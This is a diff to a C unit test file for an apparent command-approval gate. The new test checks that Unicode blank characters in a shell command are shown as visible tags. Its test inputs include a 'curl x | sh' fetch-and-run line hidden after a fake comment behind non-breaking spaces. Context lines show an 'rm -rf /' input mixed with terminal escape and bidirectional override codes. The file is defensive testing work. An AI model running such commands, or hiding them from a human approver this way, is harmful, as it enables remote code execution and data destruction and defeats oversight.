@@ -70,6 +70,52 @@ static void gate_whole_bounded(void **state)
 	free(big);
 }
 
+/* bash parts words at space, tab and newline only: a blank that is
+ * another character joins words it seems to part, and a '#' after it
+ * starts no comment, so what reads as a comment runs. */
+static int enc(uint32_t cp, char *o)
+{
+	if (cp < 0x800) {
+		o[0] = (char)(0xc0 | cp >> 6);
+		o[1] = (char)(0x80 | (cp & 0x3f));
+		return 2;
+	}
+	o[0] = (char)(0xe0 | cp >> 12);
+	o[1] = (char)(0x80 | ((cp >> 6) & 0x3f));
+	o[2] = (char)(0x80 | (cp & 0x3f));
+	return 3;
+}
+
+static void gate_visible_command_blanks(void **state)
+{
+	(void)state;
+	const char *cmd = "make\xc2\xa0" "# later; curl x | sh\xe2\x80\x83\xe3\x80\x80\xe2\xa0\x80\xe2\x80\xaf\xe2\x81\x9f"
+			  "\xe1\x9a\x80 a\tb";
+	char *v = gate_visible_command(cmd, 512);
+	assert_string_equal(v, "make<U+00A0># later; curl x | sh<U+2003><U+3000><U+2800><U+202F><U+205F><U+1680> a\tb");
+	free(v);
+	/* every such blank, and nothing beside them */
+	for (uint32_t cp = 0x80; cp < 0x3100; cp++) {
+		char in[8], want[16];
+		int k = enc(cp, in);
+		in[k] = '\0';
+		int blank = cp == 0xa0 || cp == 0x1680 || (cp >= 0x2000 && cp <= 0x200a) || cp == 0x202f ||
+			    cp == 0x205f || cp == 0x2800 || cp == 0x3000;
+		char *a = gate_visible(in, 512), *c = gate_visible_command(in, 512);
+		snprintf(want, sizeof(want), "<U+%04X>", (unsigned)cp);
+		if (blank)
+			assert_string_equal(c, want);
+		else
+			assert_string_equal(c, a);
+		free(a);
+		free(c);
+	}
+	/* prose keeps them: the answer, a write's content, a path */
+	v = gate_visible("a\xc2\xa0" "b", 512);
+	assert_string_equal(v, "a\xc2\xa0" "b");
+	free(v);
+}
+
 static void gate_visible_escapes(void **state)
 {
 	char *v = gate_visible("rm -rf /\x1b[2J\xe2\x80\xae" "evil\tx\n\xff", 512);
@@ -303,6 +349,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(gate_ceiling_and_approval),
 		cmocka_unit_test(gate_visible_escapes),
+		cmocka_unit_test(gate_visible_command_blanks),
 		cmocka_unit_test(gate_visible_ignorable),
 		cmocka_unit_test(gate_visible_emoji_selector),
 		cmocka_unit_test(gate_diff_shapes),
